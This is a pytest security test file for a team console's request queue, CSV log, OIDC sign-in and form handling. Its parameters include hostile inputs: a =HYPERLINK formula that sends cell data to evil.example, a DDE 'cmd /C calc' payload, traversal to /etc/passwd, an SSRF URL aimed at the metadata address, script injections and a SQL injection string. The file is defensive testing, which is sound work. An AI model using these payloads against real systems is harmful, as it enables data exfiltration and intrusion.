def test_the_queues_done_notice_names_only_a_request_of_the_team(api, team, officer):
    """`done` is put in the URL by our own redirect after ▷; anyone can write a link with other words in it,
    and the team's own console must not say them (content spoofing: "call this number", "sign in at ...")."""
    spoof = "r_X is not executed. Your session expired: sign in again at https://evil.example/console. Request"
    answer = officer.get(f"/console/teams/{team.id}/requests?done={urllib.parse.quote(spoof)}")
    assert answer.status_code in (200, 400)
    assert "evil.example" not in officer.page


# --- the CSV log ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("address", ["=1+cmd@x.example", "-2+3@x.example", "+1@x.example"])
def test_a_client_address_cant_be_a_formula_in_the_log(api, team, officer, address):
    api.verified_request(team, address)
    text = page_of(officer.get(f"/console/teams/{team.id}/log.csv"))
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(",")]
    assert address not in cells and "'" + address in cells


@pytest.mark.parametrize("reason", ["=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
                                    "\t=1+1", "\r=1+1", "-1+1", "+1"])
def test_a_denial_reason_cant_be_a_formula_in_the_log(api, team, officer, reason):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    officer.post(f"/console/teams/{team.id}/requests/{request_id}/deny", {"reason": reason})
    rows = list(csv.DictReader(io.StringIO(page_of(officer.get(f"/console/teams/{team.id}/log.csv")))))
    (row,) = [r for r in rows if r["request_id"] == request_id]
    if row["denial_reason"]:
        assert row["denial_reason"][0] not in "=+-@\t\r", row["denial_reason"]


# --- OpenID Connect callback ----------------------------------------------------------------------------------

def start_oidc(console) -> str:
    answer = console.get("/console/sign-in/oidc")
    assert answer.status_code == 303
    return answer.headers["Location"]


def test_the_providers_error_description_isnt_reflected(api, team, provider):
    console = Console(api)
    start_oidc(console)
    query = urllib.parse.urlencode({"error": "access_denied", "error_description": PAYLOAD + " call +1-555-EVIL"})
    answer = console.get(f"/console/sign-in/callback?{query}")
    assert answer.status_code == 401
    assert "alert(1)" not in page_of(answer) and "555-EVIL" not in page_of(answer)
    assert "pd_session" not in console.cookies


def test_a_hostile_provider_error_code_isnt_reflected(api, team, provider):
    console = Console(api)
    start_oidc(console)
    answer = console.get("/console/sign-in/callback?" + urllib.parse.urlencode({"error": PAYLOAD}))
    assert answer.status_code == 401 and "alert(1)" not in page_of(answer)


def test_a_replayed_callback_with_the_old_flow_cookie_signs_nobody_in(api, team, provider):
    console = Console(api)
    code, state = provider.authorize(start_oidc(console))
    flow = dict(console.cookies)
    callback = f"/console/sign-in/callback?code={code}&state={state}"
    assert console.get(callback).status_code == 303
    replay = Console(api)
    replay.cookies = flow
    answer = replay.get(callback)
    assert answer.status_code == 401 and "pd_session" not in replay.cookies


def test_an_attackers_callback_cant_sign_in_a_browser_with_its_own_flow(api, team, other, provider):
    """Login CSRF: the attacker signs in at the provider as themselves, then sends the victim, who started a
    sign-in of their own, to the callback with the attacker's code and state."""
    attacker, victim = Console(api), Console(api)
    code, state = provider.authorize(start_oidc(attacker), email=other.admin_email)
    start_oidc(victim)
    answer = victim.get(f"/console/sign-in/callback?code={code}&state={state}")
    assert answer.status_code == 401 and "pd_session" not in victim.cookies


@pytest.mark.parametrize("query", ["", "?", "?state=", "?code=&state=", "?state=a&state=b", "?code=" + "x" * 5000])
def test_a_callback_without_a_flow_is_a_page_not_an_error(api, team, provider, query):
    answer = Console(api).get(f"/console/sign-in/callback{query}")
    assert answer.status_code == 401


def test_a_callback_with_a_huge_flow_cookie_is_refused(api, team, provider):
    console = Console(api)
    console.cookies = {"pd_session_oidc": "x" * 5000}
    assert console.get("/console/sign-in/callback?code=a&state=b").status_code == 401


def test_the_callback_when_no_provider_is_set_up_is_a_page_not_an_error(api):
    answer = Console(api).get("/console/sign-in/callback?code=a&state=b")
    assert 400 <= answer.status_code < 500


# --- static assets ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["..%2F..%2Fapp.py", "..%2Fconfig.py", "%2E%2E%2Fsessions.py", "console.js%00",
                                  "..%5C..%5Capp.py", ".", "..", "__init__.py", "console.js.map",
                                  "%2Fetc%2Fpasswd", "console.css%2F..%2F..%2Fapp.py"])
def test_only_the_console_assets_are_served(api, name):
    answer = api.client.http.request("GET", f"/portal/assets/{name}", headers={}, body=b"")
    assert answer.status_code in (400, 403, 404)
    assert b"import " not in answer.body and b"root:" not in answer.body


# --- hostile input: a 4xx page, never a 500 ---------------------------------------------------------------------

@pytest.mark.parametrize("position", ["\u00b2", "\u2460", "9" * 5000, "-1", "1e9", "99999999999999999999"])
def test_a_hostile_queue_position_is_no_server_error(api, team, officer, position):
    answer = officer.get(f"/console/teams/{team.id}/requests?next={urllib.parse.quote(position)}")
    assert answer.status_code < 500


def test_a_hostile_position_in_a_search_is_no_server_error(api, team, officer):
    officer.get(f"/console/teams/{team.id}/requests")
    answer = officer.post(f"/console/teams/{team.id}/requests/search", {"state": "open", "next": "\u00b2"})
    assert answer.status_code < 500


@pytest.mark.parametrize("position", ["!!!", "e30", "W10", "eyJhIjoxfQ", "x" * 5000])
def test_a_hostile_cursor_is_a_400(api, team, officer, position):
    answer = officer.get(f"/console/teams/{team.id}/requests?state=all&next={position}")
    assert answer.status_code == 400


@pytest.mark.parametrize("referer", ["http://[", "http://[::1", "https://[zz]/", "http://a:b:c/", "\x7f"])
def test_a_malformed_referer_is_no_server_error(api, team, referer):
    console = Console(api)
    console.get("/console")
    answer = console.post("/console/sign-in", {"email": team.admin_email}, csrf=False, origin=None,
                          headers={"Referer": referer})
    assert 400 <= answer.status_code < 500


def test_a_malformed_referer_on_a_signed_in_form_is_no_server_error(api, team, officer):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/execute", origin=None,
                          headers={"Referer": "http://["})
    assert 400 <= answer.status_code < 500
    assert api.request_view(team, request_id)["status"] == "pending"


@pytest.mark.parametrize("team_id", ["x" * 3000, "é" * 600, "t_%00", "..", "%2e%2e", "t_' OR '1'='1"])
def test_a_hostile_team_id_in_the_path_is_a_404(api, team, officer, team_id):
    quoted = urllib.parse.quote(team_id, safe="%'")
    assert officer.get(f"/console/teams/{quoted}/requests").status_code == 404
    officer.get(f"/console/teams/{team.id}/requests")
    assert officer.post(f"/console/teams/{quoted}/settings", {"consent_text": "x"}).status_code == 404


@pytest.mark.parametrize("request_id", ["x" * 3000, "é" * 600, "r_%00", "search", "row"])
def test_a_hostile_request_id_in_the_path_is_a_404(api, team, officer, request_id):
    quoted = urllib.parse.quote(request_id, safe="%")
    for suffix in ("", "/row", "/execute"):
        answer = officer.get(f"/console/teams/{team.id}/requests/{quoted}{suffix}")
        assert answer.status_code in (404, 405), suffix  # 405: GET of …/requests/search, a POST-only route
    officer.get(f"/console/teams/{team.id}/requests")
    for action in ("execute", "extend", "deny", "lift-restriction", "systems/paper/skip"):
        answer = officer.post(f"/console/teams/{team.id}/requests/{quoted}/{action}", {"months": "1", "reason": "x"})
        assert answer.status_code == 404, action


def test_an_oversized_form_is_refused_with_a_page_and_changes_nothing(api, team, officer):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/execute", {"note": "x" * 200_000})
    assert 400 <= answer.status_code < 500 and answer.headers["Content-Type"].startswith("text/html")
    assert api.state() == before


def test_an_oversized_sign_in_form_is_refused_with_a_page(api, team):
    console = Console(api)
    console.get("/console")
    answer = console.post("/console/sign-in", {"email": team.admin_email, "pad": "x" * 200_000}, csrf=False)
    assert 400 <= answer.status_code < 500
    assert api.mail_to(team.admin_email) == []


@pytest.mark.parametrize("body", [b"csrf_token=%ff%fe", b"\xff\xfe\x00csrf_token=x", b"note=%ED%A0%80"])
def test_a_form_that_isnt_utf8_is_refused_with_a_page(api, team, officer, body):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests")
    before = api.state()
    answer = raw_post(officer, f"/console/teams/{team.id}/requests/{request_id}/execute",
                      body + b"&csrf_token=" + officer.csrf_token().encode(), "application/x-www-form-urlencoded")
    assert 400 <= answer.status_code < 500
    assert api.state() == before


def test_a_sign_in_form_that_isnt_utf8_is_refused_with_a_page(api, team):
    console = Console(api)
    answer = raw_post(console, "/console/sign-in", b"email=%ff" + team.admin_email.encode(),
                      "application/x-www-form-urlencoded")
    assert answer.status_code == 400


@pytest.mark.parametrize("path, fields", [
    ("members", {"action": "explode"}),
    ("members", {}),
    ("members", {"action": "update", "member_id": ""}),
    ("members", {"action": "add", "name": "x" * 5000, "email": "a@b.example", "role": "member"}),
    ("members", {"action": "add", "name": "Eve\x00", "email": "eve@team.example", "role": "owner"}),
    ("systems", {"action": "explode"}),
    ("systems", {"action": "add", "system_id": "x" * 500, "kind": "nuclear"}),
    ("systems", {"action": "add", "system_id": "ok", "name": "x", "kind": "webhook", "url": "http://169.254.169.254/"}),
    ("settings", {"locale": "xx", "locales": "../../etc"}),
    ("settings", {"locale": "en", "accent_color": "red;}</style><script>"}),
    ("settings", {"locale": "en", "embed_origins": "javascript:alert(1)\nnull\n*"}),
    ("settings", {"locale": "en", "privacy_officer_id": "x" * 3000}),
    ("settings", {"locale": "en", "logo_url": "javascript:alert(1)"}),
])
def test_a_hostile_team_form_is_a_4xx_page_and_changes_nothing(api, team, officer, path, fields):
    officer.get(f"/console/teams/{team.id}/{path}")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/{path}", fields)
    assert 400 <= answer.status_code < 500, page_of(answer)[:300]
    assert api.state() == before


@pytest.mark.parametrize("path, fields", [
    ("settings", [("locale", "en")] + [("locales", "xx")] * 6000),
    ("systems", [("action", "add"), ("system_id", "s"), ("name", "S"), ("kind", "manual"),
                 ("owner_email", "o@team.example")] + [("request_types", "nope")] * 6000),
    ("members", [("action", "add"), ("name", "E"), ("email", "e@team.example")] + [("role", "x")] * 6000),
])
def test_a_form_repeating_a_field_thousands_of_times_is_a_4xx_page(api, team, officer, path, fields):
    officer.get(f"/console/teams/{team.id}/{path}")
    before = api.state()
    answer = officer.post(f"/console/teams/{team.id}/{path}", fields)
    assert 400 <= answer.status_code < 500, page_of(answer)[:300]
    assert api.state() == before


@pytest.mark.parametrize("fields", [{"months": "3", "reason": "x"}, {"months": "abc", "reason": "x"},
                                    {"months": "", "reason": "x"}, {"months": "1", "reason": "x" * 50_000},
                                    {"months": "1"}, {"months": ["1", "2"]}])
def test_a_hostile_extension_is_a_4xx_page_and_changes_nothing(api, team, officer, fields):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    before = api.state()
    pairs = [(k, item) for k, value in fields.items() for item in (value if isinstance(value, list) else [value])]
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/extend", pairs)
    assert 400 <= answer.status_code < 500
    assert api.state() == before


@pytest.mark.parametrize("action", ["explode", "row", "execute%2F..", "EXTEND"])
def test_an_unknown_request_action_is_a_404(api, team, officer, action):
    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    before = api.state()
    assert officer.post(f"/console/teams/{team.id}/requests/{request_id}/{action}").status_code in (404, 405)
    officer.get(f"/console/teams/{team.id}/requests/{request_id}")
    assert officer.post(f"/console/teams/{team.id}/requests/{request_id}/systems/paper/{action}").status_code in (
        404, 405)
    assert api.state() == before


@pytest.mark.parametrize("value", ["x" * 10_000, "*;q=abc, ;;, en-US;q=NaN", "zz-ZZ-x-private", "fr;q=1e999, ,,;q="])
def test_a_hostile_accept_language_is_no_server_error(api, team, officer, value):
    assert officer.get(f"/console/teams/{team.id}/requests", headers={"Accept-Language": value}).status_code == 200
    assert Console(api).get("/console", headers={"Accept-Language": value}).status_code == 200


def test_a_post_of_an_unsupported_type_is_a_4xx(api, team, officer):
    request_id = api.verified_request(team, "client@x.example")
    answer = raw_post(officer, f"/console/teams/{team.id}/requests/{request_id}/execute", b"<x/>", "application/xml")
    assert 400 <= answer.status_code < 500
    assert api.request_view(team, request_id)["status"] == "pending"


def test_a_sign_in_session_id_is_unguessable(api, team):
    ids = set()
    for _ in range(3):
        console = Console(api)
        console.sign_in(team.admin_email)
        (value,) = console.cookies.values()
        assert len(value) >= 43 and re.fullmatch(r"[A-Za-z0-9_-]+", value)
        ids.add(value)
    assert len(ids) == 3


def test_an_idle_session_cant_be_revived_by_a_form(api, team, officer, monkeypatch):
    from chalicelib import clock

    request_id = api.verified_request(team, "client@x.example")
    officer.get(f"/console/teams/{team.id}/requests/{request_id}/execute")
    later = clock.now() + dt.timedelta(minutes=31)
    monkeypatch.setattr(clock, "now", lambda: later)
    answer = officer.post(f"/console/teams/{team.id}/requests/{request_id}/execute")
    assert answer.status_code == 303 and answer.headers["Location"].endswith("/console")
    assert api.request_view(team, request_id)["status"] == "pending"
